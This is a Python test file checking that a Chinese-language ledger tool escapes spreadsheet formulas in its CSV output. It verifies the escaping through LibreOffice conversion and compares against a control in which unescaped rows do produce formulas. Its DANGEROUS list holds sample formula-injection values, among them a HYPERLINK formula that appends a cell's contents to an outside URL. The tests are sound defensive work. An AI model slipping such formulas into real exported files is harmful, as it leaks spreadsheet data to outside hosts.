"""The ledger's CSV files are for people too: a byte-order mark (a spreadsheet reads the Chinese headers),
and no field a spreadsheet would run: text that starts with = + - @, a tab or a carriage return is stored
with an apostrophe in front (and so is text that starts with an apostrophe), and plandocs reads every text
back exactly. Opened in LibreOffice Calc, no ledger CSV has a formula cell."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import PLAN_DIR
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from promises import plandocs, tree
from returns_kit import fill, form_bytes

from generators.formspec import FormsLayout
from generators.ledger import store
from generators.ledger.store import LedgerPaths, load
from generators.plan import load_plan
from generators.views import Views

DANGEROUS = (
    '=HYPERLINK("http://example.com/?"&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
    "'已是撇号开头",
    "''两个撇号",
    "=",
)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.lists(
            st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\0")),
            min_size=3,
            max_size=3,
        ),
        max_size=5,
    )
)
def test_every_text_reads_back_exactly(tmp_path_factory, table):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    header = ("甲", "乙", "丙")
    path.write_bytes(store._csv_bytes(header, table))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert list(store._read(path, header)) == table
    raw = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))[1:]
    for row in raw:  # as a spreadsheet sees it: nothing it would run
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row)


@pytest.fixture(scope="module")
def office(tmp_path_factory, layout):
    """Two units' returns whose progress cells hold what a spreadsheet would run, collected."""
    root = tmp_path_factory.mktemp("office")
    shutil.copytree(PLAN_DIR, root / "plan")
    plan = load_plan(root / "plan")
    views, spec = Views(plan), FormsLayout.of(layout)
    typed: dict[str, str] = {}

    def progress(key: str) -> str:
        typed.setdefault(key, DANGEROUS[len(typed) % len(DANGEROUS)])
        return typed[key]

    for unit in list(views.assignments)[:2]:
        fill(
            form_bytes(plan, views, layout, 1, unit),
            root / "returns" / f"{unit}.xlsx",
            spec,
            date=dt.date(2023, 3, 28),
            progress=progress,
        )
    done = plandocs(
        "collect",
        "--quarter",
        "1",
        str(root / "returns"),
        "--plan",
        str(root / "plan"),
        "--out",
        str(root / "output"),
    )
    assert done.exit_code == 0, done.output
    return root, typed


def test_the_ledger_holds_what_the_units_typed(office):
    root, typed = office
    ledger = load(LedgerPaths(root / "ledger", 2023))
    # as collect read the cells (it trims the white space around a cell's text: "\t=1+1" is "=1+1")
    assert ledger.entries and {e.progress for e in ledger.entries} == {t.strip() for t in typed.values()}
    for entry in ledger.entries:
        assert entry.progress == typed[entry.key_text].strip()
    csvs = sorted((root / "ledger").rglob("*.csv"))
    assert len(csvs) == 6
    for path in csvs:
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), path.name


# LibreOffice's CSV import options: comma, double quote, UTF-8 (76), from line 1, …, token 13 "evaluate
# formulas" on (what the import dialog does by default)
UTF8_FORMULAS = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"


def _formulas(book: Path) -> int:
    wb = load_workbook(book)
    return sum(1 for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f")


def _convert(csvs: list[Path], out: Path, profile: Path, infilter: str | None) -> list[Path]:
    args = ["soffice", "--headless", f"-env:UserInstallation=file://{profile}", "--convert-to", "xlsx"]
    if infilter:
        args.append(f"--infilter={infilter}")
    subprocess.run(
        [*args, "--outdir", str(out), *map(str, csvs)], check=True, capture_output=True, timeout=300
    )
    return [out / f"{p.stem}.xlsx" for p in csvs]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_finds_no_formula_in_any_ledger_csv(office, tmp_path):
    root, _ = office
    csvs = sorted((root / "ledger").rglob("*.csv"))
    flat = tmp_path / "csv"  # 2023.csv and 2023/*.csv: one folder of distinct names for the converter
    flat.mkdir()
    copies = [shutil.copy(p, flat / p.name) for p in csvs]
    # the office's import (UTF-8, as the byte-order mark says, formulas evaluated) and the converter's default
    for name, infilter in (("utf8", UTF8_FORMULAS), ("default", None)):
        books = _convert([Path(c) for c in copies], tmp_path / name, tmp_path / "profile", infilter)
        assert [_formulas(b) for b in books] == [0] * len(books), name
    (table,) = [b for b in (tmp_path / "utf8").iterdir() if b.stem == "2023"]
    ws = load_workbook(table).active
    assert ws["A1"].value == "季度" and ws["I1"].value == "进展情况"  # the headers read as Chinese
    # the control: the same rows unescaped, as the ledger was written before, give formulas
    raw = tmp_path / "raw" / "2023.csv"
    raw.parent.mkdir()
    with open(root / "ledger" / "2023.csv", encoding="utf-8-sig", newline="") as handle:
        unescaped = [[store.unescape(v) for v in row] for row in csv.reader(handle)]
    with open(raw, "w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(unescaped)
    (book,) = _convert([raw], tmp_path / "raw-out", tmp_path / "profile", UTF8_FORMULAS)
    assert _formulas(book) > 0


def test_an_older_ledger_without_mark_or_escape_is_read_and_rewritten_with_a_message(office, tmp_path):
    """A ledger written before the mark and the escape: its fields are read as they are (an apostrophe
    it holds is text), and the next collect rewrites every file with both and says so."""
    root, typed = office
    old = tmp_path / "office"
    shutil.copytree(root, old)
    for path in (old / "ledger").rglob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            rows = [[store.unescape(v) for v in row] for row in csv.reader(handle)]
        with open(path, "w", encoding="utf-8", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows(rows)
    older = load(LedgerPaths(old / "ledger", 2023))
    assert older.migrated and {e.progress for e in older.entries} == {t.strip() for t in typed.values()}
    done = plandocs(
        "collect",
        "--quarter",
        "1",
        str(old / "returns"),
        "--plan",
        str(old / "plan"),
        "--out",
        str(old / "output"),
    )
    assert done.exit_code == 0, done.output
    assert "已按新格式重写" in done.output and "字节顺序标记" in done.output
    assert tree(old / "ledger") == {
        k.replace(str(root), str(old)): v for k, v in tree(root / "ledger").items()
    }
